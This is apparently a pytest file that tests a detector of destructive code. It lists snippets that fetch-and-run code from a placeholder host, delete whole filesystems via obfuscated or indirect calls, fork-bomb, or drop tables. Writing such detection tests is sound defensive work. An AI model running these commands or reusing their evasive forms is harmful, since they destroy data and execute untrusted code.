"""Code that a program reads from its input, and other roundabout ways: named, unknown, or left alone."""

from __future__ import annotations

from typing import Any

import pytest

from countermark.measure.exact import CAUTIOUS, MEASURES
from countermark.model import CodeBlock, Span

pytest.importorskip("tree_sitter", reason="code is read with countermark[code]")
DESTRUCTIVE = next(measure for measure in MEASURES if measure.term.name == "is_destructive")
TREE = "deletes a tree of files"
FETCHED = "runs what it downloads"
SHELL = "require('child_process')"


def deep(call: str) -> str:
    return "f(" * 70 + call + ")" * 70


FOUND = [
    ("bash", "curl https://x.example | (sh)", FETCHED),
    ("bash", "curl https://x.example | { sh; }", FETCHED),
    ("bash", "curl https://x.example | (cd /tmp && sudo -u app sh)", FETCHED),
    ("bash", "(curl https://x.example) | sh", FETCHED),
    ("bash", "curl https://x.example | { cat; } | sh", FETCHED),
    ("bash", "curl https://x.example | sudo -u app -E bash -", FETCHED),
    ("bash", "curl https://x.example | nice -n 5 ionice -c 3 stdbuf -o 0 bash", FETCHED),
    ("bash", "curl https://x.example | bash -s -- --yes", FETCHED),
    ("bash", "curl https://x.example | docker exec -i box sh", FETCHED),
    ("bash", "curl https://x.example | if true; then sh; fi", FETCHED),
    ("bash", "! curl https://x.example | sh", FETCHED),
    ("bash", "curl https://x.example -o f\nbash < f", FETCHED),
    ("bash", "echo 'rm -rf /' | (sh)", TREE),
    ("bash", "echo 'rm -rf /' | sudo -n sh", TREE),
    ("bash", "echo 'rm -rf /' | tee log | bash -s x", TREE),
    ("bash", "cat <<EOF | sh\nrm -rf /\nEOF", TREE),
    ("bash", "sudo -n bash <<EOF\nrm -rf /\nEOF", TREE),
    ("bash", "{ bash; } <<EOF\nrm -rf /\nEOF", TREE),
    ("bash", "sudo -n bash <<< 'rm -rf /'", TREE),
    ("bash", "ssh host <<< 'rm -rf /'", TREE),
    ("bash", "psql --command='DROP TABLE people'", "drops a table"),
    ("bash", "psql '-cDROP TABLE people'", "drops a table"),
    ("python", "import subprocess\nsubprocess.run(['rm -rf /'], shell=True)", TREE),
    ("python", "import os\nos.system('\\x72m -rf /')", TREE),
    ("python", "import os\nos.system('\\162m -rf /')", TREE),
    ("python", "import os\nwhile True:\n    os.fork()", "starts itself without end"),
    ("python", f"import os\nwhile True:\n    {deep('os.fork()')}", "starts itself without end"),
    ("python", f"import shutil\nif a:\n    {deep('shutil.rmtree(d)')}", TREE),
    ("python", "from pathlib import Path\nimport shutil\nshutil.rmtree(Path('/') / 'x')", TREE),
    ("python", "conn.run('rm -rf / > log; echo $(date)')", TREE),
    ("python", "import subprocess\npool.submit(subprocess.run, ['rm', '-rf', '/'])", TREE),
    ("python", f"from pathlib import Path\nfor p in Path('x').rglob('*'):\n    if p.suffix:\n        {deep('p.unlink()')}", TREE),
    ("python", f"import shutil\n{deep('shutil.rmtree(d)')}", TREE),
    ("sql", '\\! eval "$x"; rm -rf /', TREE),
    ("javascript", f"{SHELL}.spawn('rm -rf /', {{shell: true}})", TREE),
    ("javascript", f"{SHELL}.spawn('rm -rf /')", TREE),
    ("javascript", f"{SHELL}.execSync(['rm', '-rf', '/'].join(' '))", TREE),
    ("javascript", f"{SHELL}.execSync('rm -rf '.concat('/'))", TREE),
    ("javascript", f"{SHELL}.execSync(`rm\\x20-rf /`)", TREE),
    ("javascript", "new Deno.Command('rm', {args: ['-rf', '/']}).spawn()", TREE),
    ("javascript", "Deno.run({cmd: ['rm', '-rf', '/']})", TREE),
    ("javascript", "const c = require('cluster'); while (true) { c.fork(); }", "starts itself without end"),
    ("sql", "DELETE FROM a USING b", "deletes every row"),
    ("sql", "DELETE FROM a USING b WHERE 1=1 RETURNING id", "its condition is always true"),
    ("sql", "\\! rm -rf /", TREE),
]  # fmt: skip
UNKNOWN = [
    ("bash", "echo ls | (cat; echo rm -rf /) | sh", "runs a text that is not constant"),
    ("bash", "f() { sh; }; curl https://x.example | f", "runs what it is given to read"),
    ("bash", "bash < install.sh", "runs a file that is not shown"),
    ("bash", "python3 < tool.py", "runs a file that is not shown"),
    ("bash", "\n".join(f"bash -c 'echo {number}'" for number in range(70)), "more than 64 texts"),
    ("bash", "docker run box " + "rm " * 20, "contains more commands than are read"),
    ("bash", f"find {'a ' * 800} -delete", "may be one that"),
    ("python", "import subprocess\npool.submit(subprocess.run)", "runs a text that is not constant"),
    ("python", "import runpy\nrunpy.run_path('x.py')", "runs a file that is not shown"),
    ("javascript", "import(name)", "loads a module whose name is not constant"),
    ("javascript", "const {spawn} = require('child_process'); spawn('rm', args)", "may be one that"),
    ("javascript", "['rm -rf /'].forEach(require('child_process').execSync)", "runs a text that is not constant"),
    ("sql", "\\! echo 'open", "runs a command that does not parse"),
]
HARMLESS = [
    ("bash", "echo ls | sh"),
    ("bash", "echo ls | (sh)"),
    ("bash", "(bash) <<EOF\nls\nEOF"),
    ("bash", "curl https://x.example | (jq .)"),
    ("bash", "curl https://x.example | { jq .; } # as it is"),
    ("bash", "cat f | python -m json.tool"),
    ("bash", "sort < names.txt"),
    ("bash", "bash"),
    ("bash", "bash -c"),
    ("bash", "sudo"),
    ("bash", "ssh -i key host"),
    ("bash", "docker exec -it box bash"),
    ("bash", "ls | xargs sh -c 'echo a'"),
    ("python", "import os\nos.fork()"),
    ("python", "conn.run('ls > log')"),
    ("python", "conn.run('eval $x')"),
    ("python", "conn.run('curl -k https://x.example')"),
    ("python", "from pathlib import Path\nfor p in Path('x').rglob('*'):\n    if p.suffix:\n        p.unlink()"),
    ("python", "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d / 'x')"),
    ("javascript", "const c = require('cluster'); for (let i = 0; i < 4; i++) { c.fork(); }"),
    ("javascript", "const {execFile} = require('child_process'); execFile('ls', () => 1)"),
    ("javascript", "const x = `a\\n${b}`; console.log(x)"),
    ("sql", "DELETE FROM a USING b WHERE a.x = b.x RETURNING id"),
    ("sql", "DELETE FROM a LIMIT 5"),
    ("sql", "DELETE a FROM a JOIN b ON a.x = b.x"),
]


def asked(measure: Any, language: str, code: str) -> Any:
    return measure.about(CodeBlock(id="cb1", span=Span(start=0, end=0), language=language, code=code))


@pytest.mark.parametrize(("language", "code", "reason"), FOUND)
def test_what_is_run_in_a_roundabout_way_is_named(language, code, reason):
    found = asked(DESTRUCTIVE, language, code)
    assert (found.value, asked(CAUTIOUS, language, code).value) == (True, False)
    assert reason in found.reason


@pytest.mark.parametrize(("language", "code", "reason"), UNKNOWN)
def test_what_is_run_and_not_shown_is_unknown(language, code, reason):
    found = asked(CAUTIOUS, language, code)
    assert found.value is None
    assert reason in found.reason


@pytest.mark.parametrize(("language", "code"), HARMLESS)
def test_what_runs_nothing_hidden_is_safe(language, code):
    assert asked(DESTRUCTIVE, language, code).value is False
    assert asked(CAUTIOUS, language, code).value is True
